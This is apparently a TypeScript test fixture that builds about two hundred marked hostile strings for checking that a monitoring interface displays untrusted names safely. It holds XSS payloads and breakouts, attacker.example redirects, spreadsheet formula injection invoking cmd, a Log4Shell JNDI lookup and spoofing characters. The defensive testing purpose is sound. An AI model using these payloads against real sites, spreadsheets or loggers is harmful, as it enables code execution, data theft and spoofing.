/** What somebody may name an incident, a host or a browser, hoping that it is run where it is looked at. */
export interface HostileText {
  readonly text: string;
  /** Marks what it would leave behind in the page: an element with this attribute, or a global of this name. */
  readonly mark: string;
}

/** Ways to run something, given what to run. */
const payloads: readonly ((run: string, mark: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run, mark) => `<img ${mark} src=x onerror=${run}>`,
  (run, mark) => `<svg ${mark} onload=${run}>`,
  (run, mark) => `<svg ${mark}><animate onbegin=${run} attributeName=x dur=1s>`,
  (run, mark) => `<details ${mark} open ontoggle=${run}>`,
  (run, mark) => `<body ${mark} onload=${run}>`,
  (run, mark) => `<input ${mark} autofocus onfocus=${run}>`,
  (run, mark) => `<video ${mark}><source onerror=${run}></video>`,
  (run, mark) => `<iframe ${mark} srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run, mark) => `<iframe ${mark} src="javascript:parent.${run}"></iframe>`,
  (run, mark) => `<object ${mark} data="javascript:${run}"></object>`,
  (run, mark) => `<a ${mark} href="javascript:${run}">click</a>`,
  (run, mark) => `<form ${mark} action="javascript:${run}"><button>go</button></form>`,
  (run, mark) => `<math ${mark}><mtext><option><style><img onerror=${run} src></style></option></mtext></math>`,
  (run, mark) => `<marquee ${mark} onstart=${run}>`,
  (run, mark) => `<template ${mark}><script>${run}</script></template>`,
  (_run, mark) => `<base ${mark} href="//attacker.example/">`,
  (_run, mark) => `<style ${mark}>*{display:none}</style>`,
  (_run, mark) => `<meta ${mark} http-equiv=refresh content="0;url=//attacker.example">`,
  (_run, mark) => `<link ${mark} rel=stylesheet href="//attacker.example/x.css">`,
];

/** Places it may be copied into, which it would have to break out of first. */
const breakouts: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `">${payload}`,
  (payload) => `'>${payload}`,
  (payload) => `</title></textarea></script></style>${payload}`,
  (payload) => `-->${payload}`,
  (payload) => `]]>${payload}`,
  (payload) => `</pre></li></td></tr></table>${payload}`,
  (payload) => `\`\${${payload}}\``,
];

/** What breaks by other means than markup: what is shown elsewhere than it stands, formulas, lines of a log. */
const others: readonly string[] = [
  '=HYPERLINK("http://attacker.example","click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '${jndi:ldap://attacker.example/a}',
  '{{constructor.constructor("hostileRan()")()}}',
  '%3Cscript%3EhostileRan()%3C/script%3E',
  '&lt;img src=x onerror=hostileRan()&gt;',
  '\\u003cscript\\u003ehostileRan()\\u003c/script\\u003e',
  'invoice\u202Egnp.exe',
  'right\u200Fto\u2067left\u2069 mark',
  'line one\r\nevent: message\r\ndata: {"forged":true}\r\n\r\n',
  '\u001b[2J\u001b[31mforged line\u001b[0m',
  'separator\u2028and\u2029paragraph',
  'zero\u200Bwidth\uFEFF',
  '__proto__',
  'constructor',
  'javascript:hostileRan()',
  'data:text/html,<script>hostileRan()</script>',
  '//attacker.example/%2e%2e/',
  'e\u0301\u0302\u0303'.repeat(40),
  '👩‍👩‍👧‍👦 𠮷野家',
  'x'.repeat(2000),
];

/** Two hundred of them, each with a mark of its own. */
export const hostileTexts: readonly HostileText[] = [
  ...payloads.flatMap((payload) =>
    breakouts.map((breakout) => (mark: string) => breakout(payload(`hostileRan('${mark}')`, mark))),
  ),
  ...others.map((text) => (mark: string) => `${text} ${mark}`),
  ...payloads.slice(0, 18).map((payload) => (mark: string) => payload(`hostileRan('${mark}')`, mark).toUpperCase()),
].map((make, index) => ({ text: make(`hostile-${index}`), mark: `hostile-${index}` }));
